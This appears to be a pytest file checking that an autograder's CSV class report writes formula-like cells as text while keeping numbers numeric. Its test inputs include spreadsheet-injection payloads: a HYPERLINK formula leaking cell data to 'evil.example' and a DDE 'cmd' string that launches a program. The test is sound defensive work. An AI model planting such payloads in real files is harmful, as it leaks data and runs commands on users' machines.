"""The class report's CSV: a cell a spreadsheet would run as a formula is written as text; numbers stay numbers."""
import csv

from ninja_autograde import report

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"ada")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def number(cell):
    try:
        return float(cell)
    except ValueError:
        return None


def test_a_formula_in_any_column_is_written_as_text_and_numbers_stay_numbers(tmp_path):
    results = [report.StudentResult(student, 7.5, 15, {"test_softmax": (7.5, 15)}, written={"=1+1": (1.0, 2)},
                                    penalty=9.0)
               for student in FORMULAS + ["ada"]]
    with open(report.write_csv(results, tmp_path / "report.csv"), newline="") as f:
        header, *rows = list(csv.reader(f))
    assert header[-2:] == ["test_softmax", "'=1+1"]   # a header is a cell too
    assert [row[0] for row in rows] == ["'" + s for s in FORMULAS] + ["ada"]
    for row in rows:
        assert not [c for c in row if c.startswith(report.FORMULA) and number(c) is None], row
        assert [number(row[header.index(h)]) for h in ("autograded", "written", "total", "late_penalty")] \
            == [7.5, 1.0, -0.5, 9.0]
